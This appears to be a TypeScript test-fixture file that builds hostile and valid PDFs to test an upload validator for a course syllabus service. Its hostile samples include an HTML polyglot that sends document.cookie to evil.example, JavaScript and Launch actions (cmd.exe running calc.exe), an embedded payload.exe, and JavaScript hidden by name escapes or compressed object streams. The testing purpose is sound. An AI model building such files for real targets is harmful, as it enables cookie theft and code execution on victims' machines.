import { deflateSync } from 'node:zlib';

// The upload corpus, built at test time (no binary files from elsewhere): small PDFs written by hand
// with correct cross-reference tables, some with a compressed object stream and a cross-reference
// stream as modern producers write them. Unit tests run the PDF check over it; the integration test
// posts the same files through S3 and the upload hook.

/** A PDF from numbered object bodies (object 1 is the catalog), with its xref table and trailer. */
export function handWrittenPdf(objects: string[], trailerExtra = ''): Buffer {
  let body = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const content = 'BT /F1 18 Tf 72 720 Td (CCN2046 Course syllabus) Tj ET';
const page = (extra = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${extra}>>`;
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const stream = `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A one-page syllabus: catalog, page tree, page, content stream, font. */
const syllabus = (catalogExtra = '', pageExtra = '', more: string[] = [], trailerExtra = '') =>
  handWrittenPdf(
    [`<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`, pages, page(pageExtra), stream, font, ...more],
    trailerExtra,
  );

export const validPdf = syllabus();

/** Ordinary things real PDFs carry: open at page 1 (a destination, not an action) and a web link. */
export const validPdfWithLinks = syllabus('/OpenAction [3 0 R /Fit] /PageMode /UseNone', '/Annots [6 0 R]', [
  '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://example.edu/ccn2046) >> >>',
]);

const htmlPolyglot = Buffer.from(
  `<!DOCTYPE html><html><head><title>syllabus</title></head><!-- %PDF-1.7 -->\n<body><script>fetch('https://evil.example/?c='+document.cookie)</script>\n${validPdf.toString('latin1')}</body></html>\n`,
  'latin1',
);

const junkBeforeHeader = Buffer.concat([Buffer.alloc(500, 'MZ\u0090\u0000junk'), validPdf]);

const javascriptOpenAction = syllabus('/OpenAction 6 0 R', '', [
  "<< /Type /Action /S /JavaScript /JS (app.alert\\('Your session expired'\\)) >>",
]);

const launchOnPageOpen = syllabus('', '/AA << /O 6 0 R >>', [
  '<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>',
]);

const encrypted = syllabus(
  '',
  '',
  [
    `<< /Filter /Standard /V 1 /R 2 /O <${'28bf4e5e4e758a4164004e56fffa0108'.repeat(2)}> /U <${'0f'.repeat(32)}> /P -44 >>`,
  ],
  `/Encrypt 6 0 R /ID [<${'ab'.repeat(16)}> <${'ab'.repeat(16)}>]`,
);

/** Cut short while an update was being appended: an earlier %%EOF is there, the file's end is not. */
const truncated = Buffer.concat([
  validPdf,
  Buffer.from('6 0 obj\n<< /Title (Updated syllabus, version 2', 'latin1'),
]);

/** JavaScript spelt with #xx escapes in names, upper and lower case hex, as viewers accept them. */
const escapedJavaScript = syllabus('/Open#41ction 6 0 R', '', [
  '<< /S /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>',
]);

const embeddedFile = syllabus('/Names << /EmbeddedFiles << /Names [(payload.exe) 6 0 R] >> >>', '', [
  '<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>',
  '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
]);

const richMedia = syllabus('', '/Annots [6 0 R]', [
  '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>',
]);

const xfaForm = syllabus('/AcroForm << /Fields [] /XFA 6 0 R >>', '', [
  '<< /Length 17 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream',
]);

const notAPdfAtAll = Buffer.from(
  '%PDF-1.7\n\u0000\u0001 this is not a PDF body at all \u00ff\u00fe\n%%EOF\n',
  'latin1',
);

/**
 * A PDF 1.5 file whose object 6 sits compressed (Flate) in an object stream, with a cross-reference
 * stream: what modern producers write. The catalog refers to object 6 as `/OpenAction` when
 * `fromCatalog` says so.
 */
export function pdfWithObjectStream(compressed: string, fromCatalog: string): Buffer {
  const plain = [`<< /Type /Catalog /Pages 2 0 R ${fromCatalog}>>`, pages, page(), stream, font];
  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1')];
  const offsets: number[] = [];
  const at = () => parts.reduce((n, b) => n + b.length, 0);
  const add = (n: number, dict: string, data?: Buffer) => {
    offsets[n] = at();
    parts.push(Buffer.from(`${n} 0 obj\n${dict}`, 'latin1'));
    if (data) parts.push(Buffer.from('\nstream\n'), data, Buffer.from('\nendstream'));
    parts.push(Buffer.from('\nendobj\n'));
  };
  plain.forEach((object, i) => {
    add(i + 1, object);
  });
  const objectHeader = '6 0 ';
  const packed = deflateSync(Buffer.from(`${objectHeader}${compressed}`, 'latin1'));
  add(
    7,
    `<< /Type /ObjStm /N 1 /First ${objectHeader.length} /Filter /FlateDecode /Length ${packed.length} >>`,
    packed,
  );
  const xrefAt = at();
  const row = (type: number, field2: number, field3: number) => {
    const r = Buffer.alloc(7);
    r.writeUInt8(type, 0);
    r.writeUInt32BE(field2, 1);
    r.writeUInt16BE(field3, 5);
    return r;
  };
  const rows = [row(0, 0, 65535)];
  for (let n = 1; n <= 5; n++) rows.push(row(1, offsets[n] ?? 0, 0));
  rows.push(row(2, 7, 0), row(1, offsets[7] ?? 0, 0), row(1, xrefAt, 0));
  const xref = deflateSync(Buffer.concat(rows));
  add(
    8,
    `<< /Type /XRef /Size 9 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode /Length ${xref.length} >>`,
    xref,
  );
  parts.push(Buffer.from(`startxref\n${xrefAt}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** JavaScript in a compressed object stream: invisible to a text search, visible once parsed. */
export const javascriptInObjectStream = pdfWithObjectStream(
  "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>",
  '/OpenAction 6 0 R',
);

/** The same layout with a harmless compressed object (document information). */
export const validPdfWithObjectStream = pdfWithObjectStream('<< /Title (CCN2046 syllabus) >>', '');

/** Each refused file of the corpus and the words its rejection reason must contain. */
export const refusedCorpus: { name: string; bytes: Buffer; reason: RegExp }[] = [
  { name: 'html-polyglot.pdf', bytes: htmlPolyglot, reason: /not a PDF/ },
  { name: 'junk-before-header.pdf', bytes: junkBeforeHeader, reason: /not a PDF/ },
  { name: 'javascript-openaction.pdf', bytes: javascriptOpenAction, reason: /JavaScript/ },
  { name: 'launch-aa.pdf', bytes: launchOnPageOpen, reason: /starts other programs/ },
  { name: 'encrypted.pdf', bytes: encrypted, reason: /password-protected or encrypted/ },
  { name: 'empty.pdf', bytes: Buffer.alloc(0), reason: /empty/ },
  { name: 'truncated.pdf', bytes: truncated, reason: /incomplete or damaged/ },
  { name: 'javascript-in-object-stream.pdf', bytes: javascriptInObjectStream, reason: /JavaScript/ },
  { name: 'escaped-names.pdf', bytes: escapedJavaScript, reason: /JavaScript/ },
  { name: 'embedded-file.pdf', bytes: embeddedFile, reason: /embedded files/ },
  { name: 'rich-media.pdf', bytes: richMedia, reason: /rich media/ },
  { name: 'xfa-form.pdf', bytes: xfaForm, reason: /XFA form/ },
  { name: 'garbage-body.pdf', bytes: notAPdfAtAll, reason: /incomplete or damaged/ },
];
